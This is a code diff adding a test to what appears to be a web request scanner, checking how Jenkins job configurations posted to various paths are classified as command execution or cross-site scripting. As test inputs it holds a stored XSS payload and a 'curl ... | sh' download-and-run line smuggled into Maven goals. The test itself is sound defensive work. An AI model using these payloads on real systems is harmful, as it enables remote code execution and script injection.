@@ -1205,6 +1205,43 @@ def test_a_platforms_build_commands_and_ci_variables_are_what_it_runs(engine: En
     assert _json_types(engine, {"command_note": restart}) == {"rce"}
 
 
+def test_a_jenkins_jobs_build_steps_and_pipeline_are_what_it_runs(engine: Engine) -> None:
+    """A Jenkins job's configuration, posted to `/createItem` or to the job's `config.xml`
+    (Jenkins Job Builder, Job DSL): its shell, batch and PowerShell steps' commands and a
+    Pipeline job's script (an element named `script`) are what its agents run. Any other
+    class counts there and anywhere else in it, and so do the same steps posted elsewhere."""
+    freestyle = (
+        "<?xml version='1.1' encoding='UTF-8'?><maven2-moduleset><goals>clean install</goals>"
+        "<prebuilders><hudson.tasks.Shell><command>rm -rf ~/.m2/repository/com/example; "
+        "./gradlew --version | head -1</command></hudson.tasks.Shell></prebuilders>"
+        "<postbuilders><hudson.tasks.BatchFile><command>copy target\\*.jar \\\\share\\b "
+        "&amp; echo done</command></hudson.tasks.BatchFile></postbuilders></maven2-moduleset>"
+    )
+    pipeline = (
+        "<?xml version='1.1' encoding='UTF-8'?><flow-definition><description>Deploys"
+        "</description><definition class='org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition'>"
+        "<script>pipeline { agent any\n stages { stage('Build') { steps {\n"
+        "  sh 'make build &amp;&amp; ./scripts/push.sh | tee push.log' } } } }</script>"
+        "</definition></flow-definition>"
+    )
+    xml_type = (("Content-Type", "application/xml"),)
+
+    def posted(path: str, body: str) -> set[str]:
+        return {
+            hit.type.value for hit in engine.scan(Request("POST", path, xml_type, body.encode()))
+        }
+
+    for path in ("/createItem", "/view/all/createItem", "/jenkins/job/team/job/api/config.xml"):
+        assert posted(path, freestyle) == set(), path
+        assert posted(path, pipeline) == set(), path
+    assert posted("/api/upload", freestyle) == {"rce"}
+    assert posted("/api/upload", pipeline) != set()
+    stored = pipeline.replace("Deploys", "&lt;img src=x onerror=alert(1)&gt;")
+    assert posted("/createItem", stored) == {"xss"}
+    goals = freestyle.replace("clean install", "clean install; curl http://x.example/s | sh")
+    assert posted("/createItem", goals) == {"rce"}
+
+
 def test_a_pods_exec_through_kubernetes_api_is_the_command_it_runs(engine: Engine) -> None:
     """`kubectl exec` and Rancher's shell (under its proxy's prefix) send the command to
     run in a pod as `command` parameters of the pod's `exec`; the same words to any other
